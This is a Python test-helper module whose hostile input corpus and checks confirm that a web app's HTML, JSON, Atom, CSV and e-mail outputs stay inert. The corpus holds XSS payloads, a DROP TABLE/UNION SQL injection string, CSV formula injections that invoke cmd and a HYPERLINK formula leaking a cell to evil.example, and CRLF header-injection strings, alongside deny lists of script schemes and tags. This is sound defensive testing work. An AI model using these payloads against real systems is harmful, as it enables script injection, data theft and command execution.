"""Hostile strings for the injection sweeps (tests/sweeps/test_injection.py), and checks that whatever shows them
(an HTML page, a JSON body, an Atom feed, a CSV export, a plain-text e-mail) shows them as inert text.

The checks look at what a browser, a JSON or XML parser or a spreadsheet would act on, not at exact markup:
no element or attribute that runs script, no `javascript:` link, no unescaped `<` in JSON, no cell a
spreadsheet takes for a formula.
"""

import codecs
import csv
import io
import json
import re
from dataclasses import dataclass

import feedparser
import lxml.html

LONG_WORD = "W" * 10_000

# (name, value): a value is text, except `invalid_utf8`, which is bytes no UTF-8 decoder accepts.
# Lone surrogates, the JSON form of invalid UTF-8 ("\ud800"), are sent by the JSON sweeps themselves.
CORPUS: list[tuple[str, str | bytes]] = [
    ("script_tag", '<script>alert("pwned")</script>'),
    ("img_onerror", '<img src=x onerror="window.__pwned=1;alert(1)">'),
    ("svg_onload", "<svg/onload=alert(1)>svg payload"),
    ("attribute_breakout", '"><img src=x onerror=alert(1)>'),
    ("single_quote_breakout", "' autofocus onfocus='window.__pwned=1' x='"),
    ("script_close", "</script><script>window.__pwned=1;alert(2)</script>"),
    ("textarea_close", "</textarea></title><iframe src=javascript:alert(1)></iframe>"),
    ("comment_and_cdata", "--><!--<![CDATA[<script>alert(1)</script>]]> -->"),
    ("javascript_url", "javascript:alert(document.domain)"),
    ("javascript_url_disguised", " JaVaScRiPt:alert(1)//http://example.org/"),
    ("link_markup", '<a href="javascript:alert(1)">click me</a> and <b>bold</b>'),
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3C;b&#x3E; &#60;i&#62;"),
    ("sql", "'; DROP TABLE report; -- \" OR 1=1 UNION SELECT password_hash FROM editor --"),
    ("template_and_wildcards", "{{ 7*7 }} {% if 1 %}jinja{% endif %} ${7*7} #{7*7} <%= 7*7 %> 100% of _all_ \\ %% __"),
    ("csv_formula", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("csv_formula_plus", "+1+cmd|' /C calc'!A0"),
    ("csv_formula_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv_formula_minus", "-2+3+cmd|' /C calc'!A0"),
    ("direction_override", "\u202eevil.exe\u202c \u2066isolate\u2069 \u200fright-to-left\u200b zero width"),
    ("line_separators", "line\u2028separator\u2029paragraph \u0085next"),
    ("crlf", "first line\r\nBcc: victim@example.org\r\n\r\nsecond part"),
    ("nul_and_controls", "nul\x00 bell\x07 escape\x1b[31m red\x1b[0m\x1b]0;title\x07 del\x7f end"),
    ("long_word", LONG_WORD),
    ("long_number", "9" * 10_000),
    ("non_ascii_digits", "²³١٢"),
    ("astral", "👩🏽‍💻 𝕏 \U0001F4A9 \ufeff\ufffe\uffff"),
    ("invalid_utf8", b"caf\xe9 \xff\xfe \xed\xa0\x80 \xc3( end of bytes"),
]
# The values each database stores differently: NUL and bytes that are not UTF-8 (PostgreSQL refuses NUL in text),
# lengths past a column's limit (PostgreSQL enforces VARCHAR(n), SQLite does not) and numbers past an integer
# column's (each refuses them in its own way), quotes and LIKE's wildcards (filters and searches are built for
# each database), text beyond the Basic Multilingual Plane (four bytes in UTF-8). The others are markup, formulas
# and characters of the Basic Multilingual Plane, which both databases store and give back character for
# character: making them inert is the renderer's and the exporter's work, the same whatever the database.
STORED_DIFFERENTLY = {"sql", "template_and_wildcards", "nul_and_controls", "long_word", "long_number", "astral",
                      "invalid_utf8"}


def corpus_for(database_url: str) -> list[tuple[str, str | bytes]]:
    """The sweeps' values on a database: all of them on SQLite (the embedded default), on the other databases
    the ones stored differently (the markup would only repeat what SQLite's run shows)."""
    if database_url.startswith("sqlite"):
        return CORPUS
    return [(name, value) for name, value in CORPUS if name in STORED_DIFFERENTLY]


# What a page must never contain verbatim: the start of markup that would run.
RAW_MARKUP = ("<script>alert", "<script>window", "<img src=x", "<svg/onload", "<iframe", '<a href="javascript',
              "<![CDATA[<script")
FORBIDDEN_TAGS = {"img", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "math",
                  "video", "audio", "source", "marquee", "xss"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "cite"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- What the app does to a value before it stores or shows it (README and corrections/text.py) ----------

def _keep_percent_encoded(error: UnicodeDecodeError):
    return "".join(f"%{byte:02X}" for byte in error.object[error.start:error.end]), error.end


codecs.register_error("hostile.percent", _keep_percent_encoded)


def received(value: str | bytes) -> str:
    """The value as every view sees it: control characters but tab and newlines gone, and bytes that are not
    UTF-8 left percent-encoded (Werkzeug's way with form and query values)."""
    text = value.decode("utf-8", "hostile.percent") if isinstance(value, bytes) else value
    return CONTROL.sub("", text)


def cleaned(value: str | bytes) -> str:
    """A reader's, an import's or an API field's text as stored: line endings normalised and stripped too."""
    return received(value).replace("\r\n", "\n").replace("\r", "\n").strip()


def one_line(value: str | bytes) -> str:
    """Article titles, editor and token names: whitespace runs collapsed to one space."""
    return " ".join(cleaned(value).split())


def spreadsheet_cell(text: str) -> str:
    """A CSV cell as the export writes it: a leading formula character is made harmless with a quote."""
    return "'" + text if text.startswith(FORMULA_START) else text


def form_value(value: str | bytes) -> bytes:
    """The bytes to send for a value in a form or a query string (percent-encoded by the caller)."""
    return value if isinstance(value, bytes) else value.encode("utf-8")


# --- HTML --------------------------------------------------------------------------------------------

@dataclass
class Scan:
    """What a page holds once parsed: live markup found (should be none), its text, its JSON-LD blocks."""

    problems: list[str]
    text: str
    json_ld: list[str]


def scan_html(page: str) -> Scan:
    """Parse a page with an HTML parser (libxml2's, through lxml) and list anything in it that could run."""
    problems, json_ld = [], []
    doc = lxml.html.document_fromstring(page)
    for element in doc.iter():
        if not isinstance(element.tag, str):  # comments and processing instructions
            continue
        tag = element.tag.lower()
        shown = f"<{tag} {dict(element.attrib)}>"[:160]
        if tag in FORBIDDEN_TAGS:
            problems.append(f"a <{tag}> element: {shown}")
        for name, value in element.attrib.items():
            name = name.lower()
            if name.startswith("on"):
                problems.append(f"an event-handler attribute {name}: {shown}")
            if name == "srcdoc":
                problems.append(f"an srcdoc attribute: {shown}")
            if name in URL_ATTRIBUTES and re.sub(r"[\x00-\x20]", "", value).lower().startswith(BAD_SCHEMES):
                problems.append(f"a script URL in {name}: {shown}")
        if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            problems.append(f"a meta refresh: {shown}")
        if tag == "script":
            body = element.text or ""
            if (element.get("type") or "").lower() == "application/ld+json":
                json_ld.append(body)
            elif not (element.get("src") or "").startswith("/static/") or body.strip():
                problems.append(f"a script that is not the app's own: {shown} {body[:120]!r}")
    text = "".join(doc.xpath("//text()[not(ancestor::script)]"))
    return Scan(problems, text, json_ld)


def assert_inert_html(page: str, where: str = "the page") -> Scan:
    """No hostile markup in the page: no foreign element, handler attribute, script URL or script."""
    lowered = page.lower()
    for needle in RAW_MARKUP:
        assert needle.lower() not in lowered, f"{where} shows {needle!r} unescaped"
    scan = scan_html(page)
    assert not scan.problems, f"{where} has live markup: {scan.problems[:5]}"
    for block in scan.json_ld:
        assert "<" not in block, f"{where}: the JSON-LD block carries a raw '<'"
        json.loads(block)
    return scan


def visible_text(page: str) -> str:
    """The page's text, entities decoded, as one string (line breaks as the parser gives them: LF only)."""
    return scan_html(page).text


def lines(text: str) -> str:
    """Text with its line breaks as an HTML parser reports them (CR LF and CR become LF)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def json_ld(page: str) -> list:
    """The parsed JSON-LD blocks of a page."""
    return [json.loads(block) for block in scan_html(page).json_ld]


# --- JSON, feeds, CSV, plain text ------------------------------------------------------------------------

def assert_inert_json(body: bytes, where: str = "the answer"):
    """Valid UTF-8 JSON without a raw < or > (inert even if pasted into a page); returns it parsed."""
    text = body.decode("utf-8")  # strict: raises on invalid UTF-8
    for raw in "<>":
        assert raw not in text, f"{where}: a raw {raw!r} in JSON"
    data = json.loads(text)
    assert json.loads(json.dumps(data)) == data
    return data


def assert_inert_feed(body: bytes, where: str = "the feed"):
    """Well-formed Atom (feedparser finds nothing wrong) with no hostile markup in it; returns it parsed."""
    for needle in RAW_MARKUP:
        assert needle.encode() not in body, f"{where} carries {needle!r} unescaped"
    feed = feedparser.parse(body)
    assert not feed.bozo, f"{where} is not well-formed: {feed.bozo_exception}"
    return feed


def csv_rows(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def assert_spreadsheet_safe(body: bytes, where: str = "the export") -> list[dict]:
    """Every cell of a CSV export: none that a spreadsheet would run as a formula; returns the rows."""
    rows = csv_rows(body)
    for row in rows:
        for column, cell in row.items():
            assert not (cell or "").startswith(FORMULA_START), f"{where}: {column} starts a formula: {cell[:60]!r}"
    return rows


def assert_plain_text(text: str, where: str = "the text") -> None:
    """Plain text for a terminal or a mail client: no control characters but tab and line breaks."""
    found = CONTROL.search(text)
    assert found is None, f"{where} carries the control character {found.group()!r}"


def assert_no_header_injection(value: str, where: str = "the header") -> None:
    assert "\r" not in value and "\n" not in value, f"{where} carries a line break: {value!r}"


def assert_inert_response(response, where: str) -> Scan | None:
    """Check an answer by its type; redirects must not lead to a script or carry a line break.

    Returns the parsed page for an HTML answer, so that callers need not parse it again."""
    location = response.headers.get("Location")
    if location is not None:
        assert_no_header_injection(location, f"{where}: Location")
        assert not re.sub(r"[\x00-\x20]", "", location).lower().startswith(BAD_SCHEMES), f"{where}: {location}"
    if response.status_code in (204, 304) or not response.data:
        return None
    mimetype = response.mimetype
    if mimetype == "text/html":
        return assert_inert_html(response.get_data(as_text=True), where)
    if mimetype == "application/json":
        assert_inert_json(response.data, where)
    elif mimetype == "application/atom+xml":
        assert_inert_feed(response.data, where)
    elif mimetype == "text/csv":
        assert_spreadsheet_safe(response.data, where)
    return None


# --- Hostile revisions: pairs of article texts that made the word diff slow (issue 13) ----------------------

def _article_words(count: int, rng, vocabulary: list[str]) -> list[str]:
    # Zipf-like: a few words very common (like "the"), most rare, as in a newsroom's writing.
    weights = [1 / rank for rank in range(1, len(vocabulary) + 1)]
    return rng.choices(vocabulary, weights=weights, k=count)


def _revised(words: list[str], changes: int, rng, vocabulary: list[str]) -> list[str]:
    """`words` with `changes` single-word edits scattered across it: replacements, insertions, deletions."""
    revised = list(words)
    for place in sorted(rng.sample(range(len(words)), changes), reverse=True):
        kind = rng.choice(("replace", "replace", "insert", "delete"))
        if kind == "replace":
            revised[place] = rng.choice(vocabulary)
        elif kind == "insert":
            revised.insert(place, rng.choice(vocabulary))
        else:
            del revised[place]
    return revised


def _text(words: list[str], paragraph_words: int | None) -> str:
    if not paragraph_words:
        return " ".join(words) + "."
    return "\n\n".join(" ".join(words[start:start + paragraph_words]) + "."
                       for start in range(0, len(words), paragraph_words))


def hostile_revisions(words: int = 10_000, changes: int = 500, seed: int = 13) -> dict[str, tuple[str, str]]:
    """Old and new article texts by name: `scattered` (ordinary writing in paragraphs of 80 words, with
    `changes` edits across it), `repeated` (a vocabulary of six words, so that no word is unique), and
    `huge_paragraph` (the scattered case as one paragraph)."""
    import random

    rng = random.Random(seed)
    # Ordinary writing: common words first, then names and rarer words.
    ordinary = ["the", "of", "and", "to", "a", "in", "said", "council"] + [f"w{n}" for n in range(max(8, words // 2))]
    repetitive = ["the", "council", "said", "a", "vote", "budget"]
    pairs = {}
    for name, vocabulary, paragraph in (("scattered", ordinary, 80), ("repeated", repetitive, 80),
                                        ("huge_paragraph", ordinary, None)):
        old = _article_words(words, rng, vocabulary)
        pairs[name] = (_text(old, paragraph), _text(_revised(old, changes, rng, vocabulary), paragraph))
    return pairs
